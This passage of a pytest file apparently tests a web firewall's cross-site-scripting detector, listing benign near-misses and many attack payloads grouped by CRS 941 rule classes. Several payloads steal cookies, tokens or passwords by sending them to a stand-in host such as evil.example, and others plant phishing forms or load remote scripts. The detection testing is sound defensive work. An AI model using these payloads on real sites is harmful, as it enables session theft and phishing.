    ("form", "{{ item['name'] }}"), ("form", "{{this}}"), ("form", "{{#if user}}Hi {{user.name}}{{/if}}"),
    ("form", "Total: {{ total | currency }}"), ("q", "regular expression (regex) tutorial"), ("q", "expression(s)"),
    ("q", "css expression() ie"), ("q", "@import 'variables';"), ("q", "@import \"mixins\";"),
    ("form", "@import url('https://fonts.googleapis.com/css2?family=Inter:wght@400;600&display=swap');"),
    ("form", "@import url(//fonts.bunny.net/css?family=lato:400); body{font-family:Lato}"),
    ("form", "@import \"https://use.typekit.net/abc1def.css\"; h1{font-family:proxima-nova}"),
    ("q", "import React from \"react\""), ("q", "import { useState } from 'react'"),
    ("form", "My kid's school sent an alert (snow day) today"),
    ("form", "Note: \"prompt\" means \"ask\"; e.g. prompt (the user)"), ("q", "window.open() popups are blocked"),
    ("q", "setTimeout(() => {}, 1000)"), ("q", "javascript:void(0) meaning"), ("q", "what is the <head> tag"),
    ("q", "AbC+ADwxyz"), ("cookie", "dGhpcyBpcyBh+ACd0ZXN0"), ("q", "data-bind example knockout"),
    ("q", "hx-get tutorial"), ("q", "window.innerWidth"), ("q", "history.pushState"), ("q", "location.reload()"),
    ("q", "document.querySelector('.btn')"), ("q", "element.addEventListener('click', fn)"),
    ("form", "<img src=\"https://cdn.shopify.com/s/files/1/0001/products/shoe.jpg?v=1700000000\" alt=\"Blue shoe\" width=\"600\">"),
    ("form", "<video width=\"320\" height=\"240\" controls><source src=\"movie.mp4\" type=\"video/mp4\">No video.</video>"),
    ("form", "<input type=\"email\" name=\"email\" placeholder=\"you@example.com\" required>"),
    ("form", "<img src=\"cid:image001.png@01D9A1B2.3C4D5E60\" width=\"100\" height=\"50\">"),
    ("form", "<p>Thanks!<br>John</p><p>--<br>John Smith | Acme<br><a href=\"tel:+15551234567\">call</a></p>"),
    ("form", "<div dir=\"ltr\">Hi team,<div><br></div><div>See attached.</div></div>"),
    ("json", "{\"html\": \"<p>Hello <strong>world</strong></p>\", \"format\": \"html\"}"),
    ("json", "{\"template\": \"Hi {{name}}, you have {{count}} new messages\"}"),
    ("cookie", "{\"consent\":true,\"analytics\":false}"),
    ("referer", "https://stackoverflow.com/questions/123/how-to-use-onclick-in-javascript"),
    ("referer", "https://www.bing.com/search?q=document.cookie+javascript"),
    ("ua", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("form", "Hi :) <3 see you <soon>"), ("q", "onion rings"), ("q", "onset of symptoms"), ("q", "once=true"),
    ("form", "Alerts & notifications (settings)"), ("form", "Please confirm: (y/n)"), ("form", "top[1] rank"),
    ("form", "prompt engineering: \"act as a tutor\""), ("form", "Set onerror= to your handler"), ("form", "Mocha: large"),
    ("form", "See [the docs](https://example.com/docs) and ![logo](/img/logo.png \"Logo\")"),
    ("form", "[1]: https://example.com/ref\n[2]: /local/page"), ("form", "[guide](/blog/javascript:-the-basics)"),
    ("q", "array[0]: value"), ("form", "attachment; filename=\"x.pdf\"; name=\"y\""), ("q", "\"a\",href=\"/x\""),
    ("form", "\u03c9 is omega; \u03a9 is ohm"), ("q", "x = ~[]"), ("q", "if (a == \"b\") location == c"), ("form", "<div style=\"color:\\31 23\">x</div>"), ("form", "<span style=\"font-family:\\5FAE\\8F6F\\96C5\\9ED1\">x</span>"),
    ("json", "data:image/svg+xml;base64," + base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' width='90' height='30'>"
                                                           b"<path d='M0 20 C 20 0, 40 40, 90 10' stroke='black'/></svg>").decode()),
]

# Benign values another family's detector flagged in round 1 (code snippets, shell-ish prose); those detectors were
# fixed in round 2, so the whole verdict is asserted clean now.
BENIGN_XSS_ONLY = [
    ("q", "5 < 10 and 10 > 5"), ("form", "fish & chips; salt & vinegar"), ("form", "<(^_^)> yay"),
    ("form", "```python\nprint('hi')\n```"), ("q", "console.log(\"hi\")"), ("q", "$(\"#id\").hide()"),
    ("q", "<T>(x: T) => x"), ("q", "int main() { return 0; }"), ("q", "x > 0 && y < 0"), ("q", "new Date().getTime()"),
    ("q", "jQuery $(document).ready(function(){})"), ("q", "eval() is evil"), ("form", "`code` and ``more code``"),
    ("form", "<font color=\"#ff0000\" face=\"Arial\">red</font>"), ("q", "url(data:image/png;base64,abc)"),
    ("form", "I'd say -alert- is overused"),
    ("form", "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\" alt=\"dot\">"), ("form", "it's \"alert\" status; confirm (yes) to proceed"),
]


def _xss_score(hits) -> float:
    return max((h.score for h in hits if h.type == "xss"), default=0.0)


@pytest.mark.parametrize("carrier,value", BENIGN_XSS_ONLY, ids=[f"{i}-{c}" for i, (c, _) in enumerate(BENIGN_XSS_ONLY)])
def test_benign_near_miss_raises_no_xss(engine, carrier, value):
    hits = engine.inspect(build(carrier, value))
    assert _xss_score(hits) < THRESHOLD and verdict(hits) == "clean", hits


def test_the_sets_are_large_and_distinct():
    assert len(set(ATTACKS)) == len(ATTACKS) >= 150
    assert len(set(BENIGN)) == len(BENIGN) >= 100
    assert not set(BENIGN) & set(BENIGN_XSS_ONLY)


@pytest.mark.parametrize("value", ["{{" * 32000, "{{ x }} " * 8000, "x=alert;" * 8000, "self[" + "'a'+" * 16000 + "]",
                                   "+ADw-" * 13000, "](" * 32000, "function(" * 7000])
def test_long_adversarial_values_stay_linear(value):
    # `{{{{…` (64 KB) took minutes with a `{{.*x.*}}` regex; every shape here must stay far below the request budget
    t0 = time.process_time()
    xss.analyze(value)
    assert time.process_time() - t0 < 1.0


# Padding of tag starts before the payload. To a browser `<a <a … onclick=…>` is one tag; a WAF reads each `<a` as a tag
# too, and each one's attributes are the rest of the list. Read again per tag, a few KB of padding spent the scan's
# budget of attribute text before the payload's attributes and left only a weaker sign (xss:js_sink 0.85).
_PADS = ["<a ", "<img ", "<b x=1 ", "<a<a ", "<x title='a' "]
_TAILS = [("<img src=x onerror=alert(1)>", "xss:event_handler", 0.95), ("onclick=alert(1)>", "xss:event_handler", 0.95),
          ("<iframe src=javascript:alert(1)>", "xss:script_uri_attr", 0.95),
          (" style=x:expression(alert(1))>", "xss:css_expression", 0.9),
          ("<a href=javascript:alert(1)>x</a>", "xss:script_uri_attr", 0.95)]


@pytest.mark.parametrize("pad", _PADS)
@pytest.mark.parametrize("tail,rule,score", _TAILS)
def test_padding_of_tag_starts_does_not_hide_the_payloads_attributes(pad, tail, rule, score):
    # up to the 64 KB a detector is handed (Limits.max_value): the 60 KB values need every attribute read once
    for n in (700, 60000 // len(pad)):
        found = xss.analyze(pad * n + tail)
        assert found is not None and (found.rule, found.score) == (rule, score), (pad, n, found)


@pytest.mark.parametrize("value,rule", [
    ("<a title=\"<img src=x onerror=alert(1)>\">", "xss:event_handler"),  # a tag inside a quoted value: its own list
    ("<a x=\"<b onclick=1 \" y>", "xss:event_handler"),  # its own list, then the outer one's from `y` on
    ("<a " * 3000 + "title=\"<iframe src=javascript:alert(1)>\">", "xss:script_uri_attr"),
    ("<b " * 3000 + "><img src=x onerror=alert(1)>", "xss:event_handler"),  # after the shared list's `>`, a new one
])
def test_tags_inside_another_tags_attributes_are_still_judged(value, rule):
    found = xss.analyze(value)
    assert found is not None and found.rule == rule and found.score >= 0.95, found


# --- round 2: every attack class of CRS 941 (PL1 + PL2) and the classes CRS v4 added, written from the rule's target,
# not from CRS's tests; the report quotes first-pass numbers per class.
CRS_CLASSES: dict[str, list[tuple[str, str]]] = {
    "libinjection HTML injection (941100/941101)": [
        ("referer", "https://news.example/?s=\"><body/onpageshow=alert(1)>"),
        ("ua", "Opera/9.80 <iframe src=//evil.example>"),
        ("q", "</b><marquee loop=1 onfinish=alert(1)>x"),
        ("cookie", "'><object data=//evil.example/p.swf>"),
    ],
    "script tag (941110)": [
        ("q", "<SCRIPT type=module>import('//evil.example/m.js')</SCRIPT>"),
        ("form", "<script src=data:,alert(1)></script>"),
        ("json", "<script\x0bsrc=//evil.example/j></script>"),
        ("hdr", "<script defer>top.location='//evil.example'</script>"),
    ],
    "event handler (941120)": [
        ("q", "x\" onanimationiteration=alert(1) style=animation:spin 1s infinite \""),
        ("form", "1 onmouseleave=confirm(1)"),
        ("cookie", "a';onpointerup='prompt(1)"),
        ("json", "/onwheel=alert(1)//"),
    ],
    "attribute vector xlink/xmlns/formaction/pattern/base64 (941130)": [
        ("q", "<svg><a xlink:href=\"data:text/html;base64," + _B64_SCRIPT + "\"><text y=9>x</text></a></svg>"),
        ("form", "\"><button formaction=//evil.example/steal>go</button>"),
        ("json", "<input pattern=\".*\" oninvalid=alert(1) required>"),
        ("q", "\" formaction=\"//evil.example/collect"),
    ],
    "javascript URI in tag/url() (941140)": [
        ("q", "<embed src=\"javascript:alert(1)\">"),
        ("form", "<style>body{background-image:url( 'vbscript:msgbox(1)')}</style>"),
        ("q", "<form><input type=submit formaction=\"  JAVASCRIPT:alert(1)\">"),
        ("cookie", "<meta http-equiv=refresh content='1;URL=javascript:alert(1)'>"),
    ],
    "NoScript HTML injection (941160)": [
        ("q", "<svg><animatetransform onbegin=alert(1) attributeName=transform>"),
        ("form", "<audio autoplay onplay=alert(1)><source src=a.mp3></audio>"),
        ("json", "<object onerror=alert(1)>"),
        ("q", "<frameset><frame src=javascript:alert(1)></frameset>"),
    ],
    "NoScript attribute injection / data: URI (941170)": [
        ("next", "JavaScript:eval(name)"),
        ("q", "data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        ("form", "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"),
        ("hdr", "javascript:void(location='//evil.example/?'+document.cookie)"),
    ],
    "node-validator keywords (941180)": [
        ("q", "document.write('<iframe src=//evil.example>')"),
        ("form", "x.parentNode.innerHTML=location.hash.slice(1)"),
        ("json", "window.location='https://evil.example/?'+document.domain"),
        ("q", "<![CDATA[<]]>script<![CDATA[>]]>alert(1)<![CDATA[<]]>/script<![CDATA[>]]>"),
    ],
    "style tag @import/expression (941190)": [
        ("q", "<style>@im\\port'//evil.example/x.css';</style>"),
        ("form", "<STYLE>p{width:expression(alert(1))}</STYLE>"),
        ("json", "<style>*{x:e\\xpression(alert(1))}</style>"),
        ("q", "<style>body{background:u\\rl(javascript:alert(1))}</style>"),
    ],
    "VML frame (941200)": [
        ("q", "<v:vmlframe src=\"//evil.example/x.vml#xss\"></v:vmlframe>"),
        ("form", "<x:vmlframe\tsrc=foo.vml#x>"),
        ("json", "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=//evil.example/v#x>"),
    ],
    "obfuscated javascript:/vbscript: (941210/941220)": [
        ("q", "<a href=\"j&#x0D;a&#x09;v&#10;ascript:alert(1)\">x</a>"),
        ("q", "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>"),
        ("form", "<a href=\"v&Tab;b&NewLine;script:MsgBox(1)\">x</a>"),
        ("json", "<iframe src=\"&#0000118bscript:msgbox(1)\">"),
        ("q", "ja&#x09;vascript&#x3a;alert(1)"),
    ],
    "embed (941230)": [
        ("q", "<embed type=\"image/svg+xml\" src=\"//evil.example/a.svg\">"),
        ("form", "<EMBED/SRC=\"//evil.example/flash.swf\" AllowScriptAccess=always>"),
    ],
    "import implementation / HTC (941240)": [
        ("q", "<?import namespace=\"t\" implementation=\"#default#time2\">"),
        ("form", "<import implementation=\"//evil.example/x.htc\">"),
        ("json", "<IMPORT/implementation=//evil.example/b.htc>"),
    ],
    "meta http-equiv (941250)": [
        ("q", "<meta http-equiv=\"Set-Cookie\" content=\"session=attacker\">"),
        ("form", "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-7\">"),
        ("json", "<META HTTP-EQUIV=refresh CONTENT=\"0;url=//evil.example/\">"),
    ],
    "meta charset (941260)": [
        ("q", "<meta charset=\"utf-7\">"),
        ("form", "<meta charset=x-imap4-modified-utf7>"),
    ],
    "link href (941270)": [
        ("q", "<link rel=stylesheet href=//evil.example/x.css>"),
        ("json", "<link rel=\"import\" href=\"data:text/html,%3Cscript%3Ealert(1)%3C/script%3E\">"),
        ("form", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">"),
    ],
    "base href (941280)": [
        ("q", "<base href=//evil.example/>"),
        ("form", "<BASE HREF=\"javascript:alert(1);//\">"),
    ],
    "applet (941290)": [
        ("q", "<applet code=Exploit.class codebase=//evil.example/>"),
        ("form", "<applet archive=x.jar>"),
    ],
    "object (941300)": [
        ("q", "<object classid=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\"><param name=DataURL value=//evil.example/x.csv></object>"),
        ("json", "<object codetype=application/x-shockwave-flash data=//evil.example/x.swf>"),
        ("form", "<object type=text/html data=//evil.example/>"),
    ],
    "US-ASCII 7-bit malformed (941310)": [
        ("qraw", "%BCscript%BEalert(1)%BC/script%BE"),
        ("qraw", "%BCimg src=x onerror=alert(1)%BE"),
        ("q", "\u00bcsvg onload=alert(1)\u00be"),
    ],
    "UTF-7 (941350)": [
        ("q", "+ADw-svg/onload+AD0-alert(1)+AD4-"),
        ("form", "+ACI- onmouseover+AD0AIg-alert(1)"),
        ("json", "+ADw-iframe src+AD0-javascript:alert(1)+AD4-"),
    ],
    "JSFuck / hieroglyphy (941360)": [
        ("q", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]"),
        ("form", "(!![]+[])[+!+[]]"),
        ("json", "[][[]]+[]+(+[![]])"),
    ],
    "JS global variable access (941370)": [
        ("q", "self/**/['ale'+'rt'](1)"),
        ("form", "(top)['al\\x65rt'](1)"),
        ("json", "document/*x*/.cookie"),
        ("q", "window /*a*/ [`ale`+`rt`]`1`"),
    ],
    "disallowed attributes style/src/href (941150, PL2)": [
        ("q", "\"><a href=//evil.example/login style=position:fixed;top:0;left:0;width:100%;height:100%>"),
        ("form", "' style='background-image:url(//evil.example/leak?c=1)' x='"),
        ("json", "\" src=\"//evil.example/x.js"),
    ],
    "HTML tag injection after breakout (941320, PL2)": [
        ("q", "\"><h1>Hacked</h1>"),
        ("form", "'></textarea><form action=//evil.example/login method=post><input name=pass type=password>"),
        ("json", "\"><marquee>owned</marquee>"),
        ("cookie", "x'><b>pwn"),
    ],
    "IE filter string breakout with location/name/onerror/valueOf (941330, PL2)": [
        ("q", "'|location='javascript:alert\\x281\\x29'|'"),
        ("json", "');name='x';location=name;//"),
        ("q", "'^top.name=document.cookie^'"),
    ],
    "IE filter string breakout with member assignment (941340, PL2)": [
        ("q", "'-document.body.style.display='none'-'"),
        ("form", "\";document.forms[0].action='//evil.example/';//"),
        ("cookie", "'|window.onload=alert|'"),
    ],
    "AngularJS / Vue template injection (941380, PL2)": [
        ("q", "{{(_=''.sub).call.call({}[$='constructor'].getOwnPropertyDescriptor(_.__proto__,$).value,0,'alert(1)')()}}"),
        ("json", "{{[].join.constructor('fetch(\"//evil.example\")')()}}"),
        ("q", "<div v-if=\"1\">{{_openBlock.constructor('alert(1)')()}}</div>"),
    ],
    "JS method call (v4 941390)": [
        ("q", "setInterval('alert(1)',1000)"),
        ("form", "new Function('ale'+'rt(1)')()"),
        ("json", "eval(atob('YWxlcnQoMSk='))"),
        ("cookie", "prompt(document.domain)"),
    ],
    "JS call without parentheses (v4 941400)": [
        ("q", "['alert(1)'].find(eval)"),
        ("q", "[].sort.call`${alert}1`"),
        ("json", "window.onerror=eval;throw'=alert\\x281\\x29'"),
    ],
    "comment breakout --> (v4 941181, PL2)": [
        ("form", "--!><img src=x onerror=alert(1)>"),
        ("json", "--><h1>injected</h1>"),
        ("q", " --> <a href=//evil.example/login>Log in again</a>"),
    ],
}

# Written after the round-2 fixes to check they generalise (value-opening breakouts, comment-hidden globals, JSFuck).
ROUND2_MORE = [("q", "\"/><dialog open>Session expired, <a href=//evil.example>log in</a></dialog>"),
     ("form", "'></option></select><h1>Sale</h1>"),
     ("cookie", "\" style=\"position:absolute;top:0;left:0;width:9999px;height:9999px"),
     ("json", "' href='//evil.example/phish"),
     ("q", "--!><h2>fake notice</h2>"),
     ("q", "(window)['eval'](name)"),
     ("form", "this/*x*/['con'+'firm'](1)"),
     ("q", "[][[]]+[][[]]"),
     ("q2", "\"><h1>x</h1>"),
     ("hdr", "'><b>injected"),
     ("xml", "\"><i>owned</i>"),
     ("multipart", "\" action=\"//evil.example/collect"),
     ("q", "x\" oncut=alert(1) contenteditable \""),
     ("form", "new  Function(name)()"),
     ("json", "top/**/.location='//evil.example'"),
]

ROUND2_ATTACKS = [row for rows in CRS_CLASSES.values() for row in rows] + ROUND2_MORE

# Near-misses of the round-2 shapes: quotes and arrows that do not open the value and close a context, prose arrows,
# HTML comments a CMS stores (Gutenberg blocks), bracket maths, `(this)[…]` reads, APIs named with empty parentheses.
ROUND2_BENIGN = [("form", "He said \"yes\"> <b>no</b>"), ("q", "12\" > 10\""), ("form", "\"Quoted title\" src=wikipedia"),
     ("json", "\"hello\" <world>"), ("form", "--> next step"), ("form", "<!-- wp:paragraph --><p>Hello world</p><!-- /wp:paragraph -->"),
     ("form", "<!-- comment --> <b>note</b>"), ("form", "Step 1 --> <b>Step 2</b>"), ("form", "==> <b>done</b>"),
     ("q", "'s-Hertogenbosch"), ("form", "'>' is the greater-than sign"), ("form", "\"<\" and \">\" are angle brackets"),
     ("q", "\"/> closes a tag in XML"), ("form", "'src' = the image path"), ("form", "6' 2\" style=casual"),
     ("json", "it's \"href=\" you need"), ("q", "arr[[0]]"), ("q", "matrix[i][j] + [0]"), ("q", "[] + []"),
     ("q", "int[][] grid = new int[3][3]"), ("q", "(this)['value']"), ("q", "(self)['name'] lookup"),
     ("q", "document /* the DOM */ object"), ("form", "window/*global*/ docs"), ("q", "new function keyword javascript"),
     ("q", "the new function in excel"), ("form", "--> see below"), ("form", "A --> B"), ("q", "<-- back"), ("q", "<!-- -->"),
     ("q", "javascript alert() vs console.log"), ("q", "<img onerror>"), ("q", "<input required>"),
     ("form", "\"Best seller\" > \"New\""), ("form", "5'> 4'"), ("q", "'\"' quote"), ("form", "\" \" (space)"),
     ("json", "\"><\" is a heart? no"), ("form", "'s Gravenhage'"), ("q", "javascript array methods map() filter()"),
     ("q", "javascript promise then() catch()"), ("form", "Compare: javascript eval() vs new Function()"),
     ("q", "<details open>"), ("q", "<video autoplay muted>"), ("form", "<textarea readonly>"),
     ("form", "-- > <-- spacing"), ("q", "x --> y --> z"), ("form", "1. Open settings -->\n2. Save"),
     ("cookie", "\"src\""), ("hdr", "\"v1\" href"), ("q", "self (psychology)"), ("q", "(top) [1] results"),
]
# sqli flags these (quote + comparison operator); only the XSS detector is held to silence here.
ROUND2_BENIGN_XSS_ONLY = [("q", "12\" > 10\""), ("form", "\"Best seller\" > \"New\""), ("form", "5'> 4'"), ("form", "Compare: javascript eval() vs new Function()")]
ROUND2_BENIGN = [row for row in ROUND2_BENIGN if row not in ROUND2_BENIGN_XSS_ONLY]


def test_round2_every_class_has_payloads_and_sets_are_distinct():
    assert all(len(rows) >= 2 for rows in CRS_CLASSES.values()) and len(CRS_CLASSES) >= 30
    assert len(set(ROUND2_ATTACKS)) == len(ROUND2_ATTACKS) and not set(ROUND2_ATTACKS) & set(ATTACKS)
    assert not set(ROUND2_BENIGN) & set(BENIGN)


@pytest.mark.parametrize("value", ["-->", " --!> "])
def test_lone_comment_close_stays_a_weak_probe(value):
    # CRS v4 941181 (PL2) treats a value that is only `-->` as an attack; prose arrows carry words around it
    f = xss.analyze(value)
    assert f is not None and f.rule == "xss:comment_breakout" and THRESHOLD <= f.score < 0.6


@pytest.mark.parametrize("value", ["step 1 --> step 2", "--> next step", "A --> B", "x --> y --> z", "1. Open -->\n2. Save"])
def test_prose_arrow_is_not_a_comment_breakout(value):
    f = xss.analyze(value)
    assert f is None or f.score < THRESHOLD


@pytest.mark.parametrize("value", ["\"" + " /" * 30000 + "style=", "--" + ">" + " " * 60000 + "x", "(top)" * 12000 + "[",
                                   "self/*" * 10000, "[][[]]" * 10000])
def test_round2_shapes_stay_linear(value):
    t0 = time.process_time()
    xss.analyze(value)
    assert time.process_time() - t0 < 1.0


# Context-specific shapes (dangling markup, mXSS nesting, DOM clobbering, SVG timing events, scheme obfuscation in a
# redirect target) written to probe the detector; all were caught by the round-2 code on first run.
ROUND2_EXTRA = [("q", "<object data=\"data:text/html,<script>alert(1)</script>\">"),
     ("form", "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></foreignObject></svg>"),
     ("json", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
     ("q", "<a id=x><a id=x name=y href=\"cid:&quot;onerror=alert(1)//\">"),
     ("q", "\"><img src='//evil.example/log?html="),
     ("form", "<meta http-equiv=refresh content='0;url=//evil.example/?"),
     ("json", "<style>input[value^=a]{background:url(//evil.example/a)}</style>"),
     ("q", "<iframe/src=\"data:text/html,<svg onload=alert(1)>\">"),
     ("q", "<script src=//evil.example></script>"),
     ("form", "\"autofocus/onfocus=\"alert(1)"),
     ("q", "<xss onafterscriptexecute=alert(1)><script>1</script>"),
     ("q", "<div style=\"background:url(&quot;javascript:alert(1)&quot;)\">"),
     ("next", "java%0ascript:alert(1)"),
     ("next", "  \tjavascript:top.location='//evil.example'"),
     ("q", "<a href=\"javascript:%61lert(1)\">x</a>"),
     ("cookie", "data:text/html;charset=utf-8;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
     ("q", "';top['ale'+'rt'](1);'"),
     ("form", "<svg><set attributeName=onmouseover to=alert(1)>"),
     ("q", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
     ("q", "\\\"-alert(1)}//"),
     ("json", "</script><svg/onload=alert(document.domain)>"),
     ("ua", "Mozilla/5.0 \"><img src=x onerror=fetch('//evil.example/'+document.cookie)>"),
     ("q", "<input type=hidden accesskey=x onclick=alert(1)>"),
     ("q", "<a href=# onclick=\"location='javascript:alert(1)'\">x</a>"),
     ("form", "<img src=x:x onerror=alert(1)//"),
     ("q", "<svg><discard onbegin=alert(1)>"),
     ("q", "<body/onload=alert(1)>"),
     ("form", "<!--><svg onload=alert(1)>-->"),
     ("q", "<style/onload=alert(1)>"),
     ("q", "'><img src=x onerror=alert(1)>"),
]


@pytest.mark.parametrize("carrier,value", ROUND2_EXTRA, ids=[f"r2e-{i}-{c}" for i, (c, _) in enumerate(ROUND2_EXTRA)])
def test_round2_extra_attack_is_caught(engine, carrier, value):
    hits = engine.inspect(build(carrier, value))
    assert verdict(hits) == "attack" and _xss_score(hits) >= THRESHOLD, hits


def test_round2_extra_is_new():
    assert len(set(ROUND2_EXTRA)) == len(ROUND2_EXTRA) and not set(ROUND2_EXTRA) & (set(ATTACKS) | set(ROUND2_ATTACKS))


# A same-origin request with a literal path (`fetch('/api')` in a docs search) is code talk; a string breakout before
# it, a sink after it or an off-origin / concatenated URL is not.
FETCH_BENIGN = [("q", "fetch('/api').then(r => r.json())"), ("q", "fetch(\"/api/items?page=2\")"),
                ("form", "fetch('/api/users/1', {method: 'DELETE'})")]
FETCH_ATTACKS = [("q", "fetch('/a');alert(1)"), ("form", "';fetch('/api/account/delete')//"),
                 ("q", "fetch('https://evil.example/'+localStorage.token)"), ("json", "x;fetch('/admin/promote?u=me')")]


@pytest.mark.parametrize("carrier,value", FETCH_BENIGN)
def test_same_origin_fetch_is_code_talk(engine, carrier, value):
    assert _xss_score(engine.inspect(build(carrier, value))) < THRESHOLD


@pytest.mark.parametrize("carrier,value", FETCH_ATTACKS)
def test_fetch_with_breakout_or_sink_is_caught(engine, carrier, value):
    assert _xss_score(engine.inspect(build(carrier, value))) >= THRESHOLD


# --- round 3: CRS 4.25's 941 file as the checklist (new 941390/941400/941181, v4's bigger 941120/941160 event list,
# 941180's v4 keywords), one class per rule, payloads written for this round (not CRS tests); first-pass numbers in
# the report. The classes CRS 4 widened are the ones that missed: escaped at-rules, DOM writes after a breakout,
# hieroglyphy atoms, a script URI inside a Referer's query.
ROUND3_CLASSES: dict[str, list[tuple[str, str]]] = {
    'libinjection HTML (941100/941101)': [
        ('xff', '127.0.0.1"><svg/onload=alert(1)>'),
        ('pname', '<img src=x onerror=alert(1)>'),
        ('q', '<dETAILS\nopen\nonToGgle\n=\na=prompt,a()>'),
        ('path', '<svg onload=alert(1)>'),
        ('referer', 'https://shop.example/search?q="><script>alert(1)</script>'),
    ],
    'script tag (941110)': [
        ('q', '<ScRiPt >prompt(document.cookie)</ScRiPt >'),
        ('multipart', '<script/xss src=//evil.example/x.js>'),
        ('referer', "https://shop.example/?q=<script>new Image().src='//evil.example/?c='+document.cookie</script>"),
        ('ua', '<<SCRIPT>alert(1);//<</SCRIPT>'),
        ('q', '<svg><script href=data:,alert(1) />'),
    ],
    'event handler incl. v4 names (941120/941160)': [
        ('q', '"onfocus=alert(1) autofocus x="'),
        ('form', '<x contenteditable onbeforeinput=alert(1)>type'),
        ('json', '<video><source onerror="javascript:alert(1)">'),
        ('cookie', "x'onpointerenter='alert`1`"),
        ('hdr', '<svg onload\n=\nalert(1)>'),
        ('q', '<div popover id=p onbeforetoggle=alert(1)>'),
        ('q', '<div style=overflow:auto;height:9px onscrollend=alert(1)>'),
        ('q', '<x ontransitionrun=alert(1) style=transition:color 1s>'),
        ('q', '<body onpageswap=alert(1)>'),
        ('q', '<input onauxclick=alert(1)>'),
        ('q', '<x oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>'),
        ('form', '<select autofocus onfocus=alert(1)>'),
        ('json', '<keygen autofocus onfocusin=alert(1)>'),
    ],
    'attribute vector xlink/xmlns/data:text/html/formaction/;base64 (941130)': [
        ('q', '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>'),
        ('form', '<iframe src="data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-">'),
        ('q', '<form><button formaction=javascript&colon;alert(1)>x'),
        ('json', '<embed src="data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoZG9jdW1lbnQuZG9tYWluKT4=">'),
        ('q', '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x'),
    ],
    'javascript URI in url() (941140)': [
        ('form', '<div style="background-image:url(javascript:alert(1))">'),
        ('q', 'x=color:red;background:url(javascript:alert(1))'),
        ('cookie', "style=width:1px;list-style-image:url('javascript:alert(1)')"),
    ],
    'NoScript HTML injection tags (941160)': [
        ('q', '<dialog open onclose=alert(1)><form method=dialog><button>x'),
        ('form', '<isindex type=image src=1 onerror=alert(1)>'),
        ('q', '<image src=x onerror=alert(1)>'),
        ('json', '<audio src onloadstart=alert(1)>'),
        ('q', '<object><param name=src value=javascript:alert(1)></object>'),
        ('q', '<marquee/onstart=alert(1)>'),
        ('q', '<frameset onload=alert(1)>'),
        ('q', '<portal src=//evil.example>'),
    ],
    'NoScript attribute injection / data: / @import / -moz-binding (941170)': [
        ('next', 'javascript:eval(name)'),
        ('next', 'javascript:\\u0061lert(1)'),
        ('next', 'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/'),
        ('next', 'data:application/x-javascript;base64,YWxlcnQoMSk='),
        ('next', 'data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E'),
        ('form', "<style>@\\69mport '//evil.example/a.css';</style>"),
        ('q', '@imp\\ort url(//evil.example/x.css);'),
        ('next', 'javascript://comment\nalert(document.domain)'),
        ('next', 'javascript:fetch`//evil.example`'),
    ],
    'node-validator keywords v4 (941180)': [
        ('q', '";document.body.appendChild(document.createElement(\'script\')).src=\'//evil.example/x.js\';//'),
        ('form', "';document.querySelector('form').action='//evil.example/phish';//"),
        ('json', 'x"-this.parentNode.innerHTML=\'<b>pwned</b>\'-"'),
        ('cookie', "';window.location='//evil.example/?'+document.cookie;//"),
        ('q', "'+fetch('//evil.example/'+document.querySelector('input[type=password]').value)+'"),
    ],
    'style tag (941190)': [
        ('form', '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</br>'),
        ('q', '<style>*{x:expression(alert(1))}</style>'),
        ('json', "<style>@import'//evil.example/x.css';</style>"),
    ],
    'VML frame (941200)': [
        ('q', '<x:vmlframe src=//evil.example/x.vml#xss>'),
        ('form', '<v:vmlframe src="//evil.example/a.vml"></v:vmlframe>'),
    ],
    'obfuscated javascript:/vbscript: (941210/941220)': [
        ('q', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'),
        ('next', '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116&#40&#49&#41'),
        ('next', 'ja&Tab;vascript&colon;alert(1)'),
        ('form', '<a href="vbs&#x63;ript:msgbox(1)">x</a>'),
        ('next', 'j&#x0A;avascript:alert(1)'),
        ('q', '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ],
    'embed (941230)': [
        ('q', '<embed src=//evil.example/x.swf allowscriptaccess=always>'),
        ('form', '<EMBED type="image/svg+xml" src="//evil.example/x.svg">'),
    ],
    'import implementation (941240)': [
        ('q', '<html xmlns:xss><?import namespace=xss implementation=//evil.example/x.htc><xss:xss>x</xss:xss>'),
        ('form', '<import implementation="//evil.example/b.htc">'),
    ],
    'meta http-equiv (941250)': [
        ('q', '<meta http-equiv="Set-Cookie" content="sid=attacker; path=/">'),
